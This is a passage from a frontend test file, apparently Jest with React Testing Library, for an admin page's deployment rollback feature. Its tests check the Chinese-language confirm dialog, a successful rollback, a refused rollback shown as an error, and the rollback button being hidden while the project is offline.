      await screen.findByText('回滚到版本 v1？', { selector: '.ant-modal-confirm-title' }),
    ).toBeInTheDocument();
    expect(api.calls('POST /projects/7/rollback')).toHaveLength(0);
    const confirm = (await screen.findAllByRole('button', { name: '回滚' })).at(-1)!;
    await user.click(confirm);

    expect(await screen.findByText('已回滚到所选版本')).toBeInTheDocument();
    expect(api.calls('POST /projects/7/rollback')[0]?.body).toEqual({ deployment_id: 21 });
    // The page asks the server again and shows v1 live, with v3 now offered instead: a step forward.
    await waitFor(() => expect(api.calls('GET /admin/projects/7').length).toBeGreaterThan(1));
    await waitFor(() =>
      expect(
        within(versions)
          .getByRole('button', { name: /切换到此版本/ })
          .closest('tr'),
      ).toHaveTextContent('v3'),
    );
    expect(within(versions).queryByRole('button', { name: /回滚/ })).toBeNull();
  });

  it('shows a refused rollback as an error message and keeps the versions as they were', async () => {
    const detail = makeDetail();
    const { user } = await openDetail({
      'GET /admin/projects/7': ok({
        ...detail,
        project: {
          ...detail.project,
          status: 'approved',
          is_live: true,
          live_version: 2,
          latest_version: 2,
          deployments: [
            makeDeployment({ id: 22, version: 2, status: 'approved', is_live: true }),
            makeDeployment({ id: 21, version: 1, status: 'approved' }),
          ],
        },
      }),
      'POST /projects/7/rollback': fail(409, '只能回滚到已通过审核的历史版本'),
    });
    const versions = (await screen.findByText('版本记录')).closest('.ant-card') as HTMLElement;
    await user.click(within(versions).getByRole('button', { name: /回滚/ }));
    await user.click((await screen.findAllByRole('button', { name: '回滚' })).at(-1)!);
    expect(await screen.findByText('只能回滚到已通过审核的历史版本')).toBeInTheDocument();
    expect(within(versions).getByRole('button', { name: /回滚/ }).closest('tr')).toHaveTextContent('v1');
  });

  it('offers no rollback while the project is offline', async () => {
    const detail = makeDetail();
    await openDetail({
      'GET /admin/projects/7': ok({
        ...detail,
        project: {
          ...detail.project,
          status: 'rejected',
          is_live: false,
          deployments: [
            makeDeployment({ id: 22, version: 2, status: 'rejected' }),
            // The server sends no rollback for an approved version while the project is offline.
            makeDeployment({ id: 21, version: 1, status: 'approved', abilities: { rollback: false } }),
          ],
        },
      }),
    });
    const versions = (await screen.findByText('版本记录')).closest('.ant-card') as HTMLElement;
    expect(within(versions).getByText('v2')).toBeInTheDocument();
    expect(within(versions).queryByRole('button', { name: /回滚/ })).toBeNull();
  });
});
